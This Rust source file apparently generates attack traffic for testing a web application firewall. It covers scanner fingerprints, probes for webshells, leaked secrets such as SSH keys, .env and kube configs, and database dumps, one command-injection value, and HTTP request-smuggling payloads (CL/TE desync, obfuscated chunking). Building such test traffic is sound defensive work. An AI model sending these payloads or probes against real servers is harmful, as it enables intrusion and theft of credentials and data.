//! Requests that look for a way in, and requests whose message itself is the attack: marks that scanners leave, hunts for
//! shells of others and for forgotten copies, headers between two servers, ranges, upgrades, chunks.

use medward_waf::AttackClass;

use super::super::super::attack::{AttackGrammar, request};
use super::super::super::encode::Encoding;
use super::super::super::place::Place;
use super::super::super::rng::Rng;
use super::super::super::wire::Wire;
use super::tools::{Shot, domain, path, query};

pub(super) const ATTACKS: &[AttackGrammar] = &[
    request("scanner-marks", AttackClass::Scanner, 34, marks),
    request("scanner-hunts", AttackClass::Scanner, 34, hunts),
    request("protocol-between-servers", AttackClass::Protocol, 34, between),
];

/// Names, headers and values by which a scanner finds its own requests again.
fn marks(rng: &mut Rng) -> Shot {
    let (word, n, away) = (rng.letters(6), rng.digits(9), domain(rng));
    let chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/73.0.3683.103 Safari/537.36";
    let header = |wire: Wire, rng: &mut Rng| (wire.finish(rng), Place::Header, Encoding::Plain);
    match rng.below(25) {
        0 => header(
            Wire::get(format!("/{word}"))
                .header("User-Agent", chrome)
                .header("Acunetix-Aspect", "enabled")
                .header("Acunetix-Aspect-Password", "082119f75623eb7abd7bf357698ff66c")
                .header("Acunetix-Aspect-Queries", "filelist;aspectalerts"),
            rng,
        ),
        1 => header(
            Wire::get(format!("/acunetix-wvs-test-for-some-inexistent-file?{word}")).header("User-Agent", chrome),
            rng,
        ),
        2 => header(
            Wire::get(format!("/nmaplowercheck{n}"))
                .header("User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")
                .header("Connection", "close"),
            rng,
        ),
        3 => path(format!("/nice%20ports%2C/Tri%6Eity.txt%2ebak?{word}"), rng),
        4 => header(
            Wire::get(format!("/?id={word}")).header("User-Agent", "Mozilla/5.0").header("X-Scanner", "Netsparker"),
            rng,
        ),
        5 => header(
            Wire::get(format!("/{word}.html")).header(
                "User-Agent",
                format!(
                    "Mozilla/5.0 (compatible; {}; http://www.openvas.org)",
                    rng.pick(&["OpenVAS-VT 22.4", "OpenVAS 9.0.3", "Greenbone-VT 22.7"])
                ),
            ),
            rng,
        ),
        6 => header(
            Wire::get(format!("/{word}")).header(
                "User-Agent",
                rng.pick(&[
                    "Goby/2.9",
                    "Jaeles",
                    "xray/1.9.11",
                    "Arachni/v1.6",
                    "commix/v3.9-stable (https://commixproject.com)",
                    "XSStrike",
                    "whatweb/0.5.5",
                    "Wfuzz/3.1.0",
                    "jaeles/v0.17",
                    "httpx - Open-source project (github.com/projectdiscovery/httpx)",
                    "dirsearch/0.4.3",
                    "Mozilla/5.0 (compatible; Nessus SOAP)",
                    "Hello, World",
                    "Mozilla/5.0 (compatible; InternetMeasurement/1.0)",
                    "TLM-Audit-Scanner/1.0",
                    "vega/1.0",
                ]),
            ),
            rng,
        ),
        7 => header(
            Wire::get(format!("/{word}"))
                .header("User-Agent", chrome)
                .header("X-Wipp", "Web Inspect")
                .header("X-WIPP-RequestID", rng.hex(16)),
            rng,
        ),
        8 => query(format!("/?{word}=%22'%3E%3Cqss%20a%3DX{n}Y1_1Z%3E"), rng),
        9 => header(
            Wire::get("/")
                .header("User-Agent", chrome)
                .header("Cookie", format!("CustomCookie=WebInspect{n}ZX{}; sid={word}", rng.hex(20).to_uppercase())),
            rng,
        ),
        10 => header(
            Wire::get(format!("/NonExistant{n}/{word}.asp"))
                .header("User-Agent", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)")
                .header("Accept-Charset", "iso-8859-1,*,utf-8")
                .header("Pragma", "no-cache"),
            rng,
        ),
        11 => header(
            Wire::get(format!("http://{away}/"))
                .header("User-Agent", chrome)
                .header("Referer", format!("http://{word}.{away}/ref"))
                .header("True-Client-IP", format!("spoofed.{away}")),
            rng,
        ),
        12 => {
            header(Wire::new("TRACK", format!("/{word}")).header("User-Agent", chrome).header("Max-Forwards", "0"), rng)
        }
        13 => header(
            Wire::get(format!("/{word}?rfiinc=http://cirt.net/rfiinc.txt"))
                .header("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"),
            rng,
        ),
        14 => header(Wire::get(format!("/?x={word}")).header("User-Agent", "Mozilla/5.0 SF/2.10b"), rng),
        15 => header(
            Wire::new("OPTIONS", format!("/{word}"))
                .header("User-Agent", chrome)
                .header("From", format!("root@{away}"))
                .header("X-Wap-Profile", format!("http://{away}/wap.xml")),
            rng,
        ),
        16 => header(
            Wire::get(format!("/{n}.php?{word}=acu{n}"))
                .header("User-Agent", chrome)
                .header("Acunetix-Product", "WVS/12.0 (Acunetix - WVSE)")
                .header("Acunetix-User-agreement", "http://www.acunetix.com/wvs/disc.htm"),
            rng,
        ),
        17 => header(
            Wire::get(format!("/{word}"))
                .header("User-Agent", "masscan-ng/1.3 (https://github.com/bi-zone/masscan-ng)"),
            rng,
        ),
        18 => query(
            format!(
                "/index.php?page=http://{}%3F.jpg&{word}",
                rng.pick(&[
                    "some-inexistent-website.acu/some_inexistent_file_with_long_name",
                    "bxss.me/t/fit.txt",
                    "testphp.vulnweb.com/t/fit.txt"
                ])
            ),
            rng,
        ),
        19 => header(
            Wire::get(rng.pick(&["/sdk", "/evox/about", "/HNAP1"])).header(
                "User-Agent",
                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            ),
            rng,
        ),
        20 => header(
            Wire::get(format!("/{word}/"))
                .header("User-Agent", "Mozilla/5.0 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)"),
            rng,
        ),
        21 => header(
            Wire::get(format!("/index.php?{word}=1")).header(
                "User-Agent",
                rng.pick(&[
                    "sqlmap/1.8.4#stable (https://sqlmap.org)",
                    "Havij",
                    "SQLiv/2.0",
                    "ghauri/1.3",
                    "NoSQLMap",
                    "tplmap/0.5",
                    "Mozilla/4.0 (compatible; pangolin)",
                ]),
            ),
            rng,
        ),
        22 => header(
            Wire::get(format!("/{word}"))
                .header("User-Agent", "Mozilla/5.0 (compatible; Qualys WAS; +https://www.qualys.com)")
                .header("Qualys-Scan", "VM"),
            rng,
        ),
        23 => header(
            Wire::get(format!("/.well-known/{word}"))
                .header("User-Agent", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
            rng,
        ),
        _ => header(
            Wire::new("PROPFIND", format!("/{word}"))
                .header("User-Agent", "DAV.pm/v0.49 (davtest)")
                .header("Depth", "1"),
            rng,
        ),
    }
}

/// Copies, dumps, sources, editors' leftovers, consoles, and the shells that others left.
fn hunts(rng: &mut Rng) -> Shot {
    let name = rng.pick(&["www", "web", "wwwroot", "his", "oa", "kangning-hospital", "backup", "2026", "site", "db"]);
    let archive = rng.pick(&["zip", "rar", "tar.gz", "7z", "sql.gz", "bak"]);
    let file = match rng.below(10) {
        0 => format!("{name}.{archive}"),
        1 => format!("backup/{name}_2026{:02}{:02}.{archive}", rng.between(1, 12), rng.between(1, 28)),
        2 => rng
            .pick(&[
                "alfa.php",
                "wso.php",
                "c99.php",
                "r57.php",
                "shell.php",
                "b374k.php",
                "1.php",
                "cmd.jsp",
                "x.jsp",
                "indoxploit.php",
                "alfacgiapi/perl.alfa",
                "ALFA_DATA/alfacgiapi/bash.alfa",
                "wp-content/plugins/hellopress/wp_filemanager.php",
                "wp-includes/wlwmanifest.xml.php",
                "webshell.aspx",
                "godzilla.jsp",
                "t00ls.php",
                "caidao.asp",
                "behinder.jspx",
                "admin-shell.php",
                "radio.php",
                "mini.php",
                "symlink.php",
                "up.php",
            ])
            .to_owned(),
        3 => rng
            .pick(&[
                ".env.production",
                ".env.bak",
                ".env.local",
                ".env.dev",
                ".env~",
                ".git/index",
                ".git/logs/HEAD",
                ".gitlab-ci.yml",
                ".hg/store/00manifest.i",
                ".svn/wc.db",
                ".bzr/branch/branch.conf",
                "CVS/Entries",
                ".npmrc",
                ".dockercfg",
                ".docker/config.json",
                ".kube/config",
                ".ssh/id_ed25519",
                ".bash_history",
                ".mysql_history",
                ".pgpass",
                ".htpasswd",
                ".idea/dataSources.xml",
                ".vscode/launch.json",
                ".ftpconfig",
            ])
            .to_owned(),
        4 => rng
            .pick(&[
                "config.php~",
                "config.php.swp",
                ".config.php.swp",
                "wp-config.php.save",
                "wp-config.txt",
                "web.config.bak",
                "application.yml.bak",
                "database.php.old",
                "settings.py.orig",
                "db.properties.bak",
                "configuration.php-dist~",
                "config/parameters.yml~",
                "LocalSettings.php.old",
                "index.php.bak",
            ])
            .to_owned(),
        5 => rng
            .pick(&[
                "actuator/configprops",
                "actuator/httptrace",
                "actuator/logfile",
                "actuator/threaddump",
                "jolokia/list",
                "heapdump",
                "env.json",
                "trace",
                "metrics;.css",
                "hystrix.stream",
                "gateway/actuator/gateway/routes",
                "v2/api-docs;.js",
                "druid/websession.html",
                "druid/weburi.json",
                "swagger/v1/swagger.json~",
                "monitoring?part=database",
            ])
            .to_owned(),
        6 => rng
            .pick(&[
                "phpMyAdmin-4.8.1/setup/index.php",
                "pma/scripts/setup.php",
                "adminer-4.7.8.php",
                "adminer.php?server=127.0.0.1",
                "sqlitemanager/main.php",
                "dbadmin/index.php",
                "mysqldumper/index.php",
                "phpunit.xml",
                "info.php?=PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000",
                "_profiler/phpinfo",
                "app_dev.php/_profiler/open?file=app/config/parameters.yml",
                "telescope/requests",
                "horizon/api/stats",
                "debug/default/view?panel=config",
            ])
            .to_owned(),
        7 => rng
            .pick(&[
                "invoker/JMXInvokerServlet",
                "jbossws/services",
                "web-console/Invoker",
                "wls-wsat/CoordinatorPortType11",
                "_async/AsyncResponseServiceHttps",
                "uddiexplorer/SetupUDDIExplorer.jsp",
                "host-manager/html",
                "axis2/services/listServices",
                "axis/happyaxis.jsp",
                "struts/webconsole.html",
                "xxl-job-admin/actuator/env",
                "solr/admin/info/system",
                "console/j_security_check",
                "geoserver/web/wicket/bookmarkable/org.geoserver.web.AboutGeoServerPage",
            ])
            .to_owned(),
        8 => rng
            .pick(&[
                "System/configurationFile?auth=YWRtaW46MTEK",
                "onvif-http/snapshot?auth=YWRtaW46MTEK",
                "HNAP1/",
                "boaform/admin/formLogin",
                "manager/radius/server_ping.php?ip=127.0.0.1|id",
                "portal/pda/workflow/check.php",
                "seeyon/management/status.jsp",
                "yyoa/assess/js/initDataAssess.jsp",
                "messager/users.data",
                "plugin/browser/validate.jsp",
                "nacos/v1/console/server/state",
                "nacos/v1/auth/users?pageNo=1&pageSize=9&search=accurate",
                "ispirit/login_code.php",
                "inc/package/work.php",
            ])
            .to_owned(),
        _ => format!(
            "{}.{}",
            rng.pick(&["dump", "database", "users", "mysql", "backup", "localhost", "his_backup", "patients"]),
            rng.pick(&["sql", "sql.zip", "mdb", "sqlite", "dmp", "bak.gz"])
        ),
    };
    let prefix = rng.pick(&["", "", "", "/portal", "/admin", "/old", "/test"]);
    path(format!("{prefix}/{}", file.replace('|', "%7C")), rng)
}

/// Hop-by-hop names, ranges, upgrades, chunk extensions, the `Proxy` header, names that gateways fold together.
fn between(rng: &mut Rng) -> Shot {
    let (word, n) = (rng.letters(5), rng.between(2, 99));
    let host = rng.pick(&["www.kangning-hospital.example", "tj.boai.example", "oa.shiyiyuan.example", "192.0.2.31"]);
    let hidden = format!("GET /admin/{word} HTTP/1.1\r\nHost: localhost\r\n\r\n");
    let raw = match rng.below(18) {
        0 => format!("GET /{word} HTTP/1.1\r\nHost: {host}\r\nRange: bytes=0-18446744073709551615\r\n\r\n"),
        1 => format!(
            "HEAD /{word} HTTP/1.1\r\nHost: {host}\r\nRange: bytes=0-,{}\r\nAccept-Encoding: gzip\r\n\r\n",
            (0..n * 12).map(|at| format!("5-{at}")).collect::<Vec<_>>().join(",")
        ),
        2 => format!(
            "GET / HTTP/1.1\r\nHost: {host}\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nConnection: Upgrade, HTTP2-Settings\r\nX-{word}: 1\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
        ),
        3 => format!("GET /cgi-bin/{word} HTTP/1.1\r\nHost: {host}\r\nProxy: http://203.0.113.{n}:8080\r\n\r\n"),
        4 => format!(
            "GET /api/{word} HTTP/1.1\r\nHost: {host}\r\nConnection: close, X-Forwarded-For, X-Real-IP, Authorization\r\n\r\n"
        ),
        5 => format!(
            "POST /{word} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n2;\nxx\r\n{:x}\r\n0\r\n\r\n{hidden}\r\n0\r\n\r\n",
            hidden.len() + 5
        ),
        6 => format!(
            "POST /{word} HTTP/1.1\r\nHost: {host}\r\nExpect: y 100-continue\r\nContent-Length: {}\r\n\r\n{hidden}",
            hidden.len()
        ),
        7 => format!(
            "POST /{word} HTTP/1.1\r\nHost: {host}\r\nContent-Length: {0},{0}\r\nTransfer-Encoding: \tchunked\x0c\r\n\r\n0\r\n\r\n{hidden}",
            hidden.len() + 5
        ),
        8 => format!("POST /{word} HTTP/1.1\r\nHost: {host}\r\nContent-Length: -{n}\r\n\r\n{hidden}"),
        9 => format!(
            "POST /{word} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked, identity\r\nContent-Length: {}\r\n\r\n0\r\n\r\n{hidden}",
            hidden.len() + 5
        ),
        10 => format!("CONNECT 127.0.0.1:{} HTTP/1.1\r\nHost: {word}\r\n\r\n", rng.pick(&[22, 3306, 6379, 8080])),
        11 => format!("GET /{word} HTTP/1.1\r\nHost: {host}@127.0.0.1:{n}\r\n\r\n"),
        12 => format!("GET /{word}\x01 HTTP/1.1\r\nHost: {host}\r\nX: {n}\r\n\r\n"),
        13 => format!(
            "POST /{word} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n5\n{word}\n0\n\n{hidden}"
        ),
        14 => format!(
            "POST /{word} HTTP/1.1\r\nHost: {host}\r\nContent-Length: {}\r\nTransfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n{hidden}",
            hidden.len() + 5
        ),
        15 => format!(
            "POST /{word} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFF{}\r\n{word}",
            rng.hex(3)
        ),
        16 => format!(
            "POST /{word} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: {}\r\nContent-Length: {}\r\n\r\n0\r\n\r\n{hidden}",
            rng.pick(&["\"chunked\"", ",chunked", "chunked;q=1"]),
            hidden.len() + 5
        ),
        _ => format!("GET /{word} HTTP/1.1\r\nHost: {host}/../../?{n}\r\nX-{word}: 1\r\n\r\n"),
    };
    (raw.into_bytes(), Place::Header, Encoding::Plain)
}
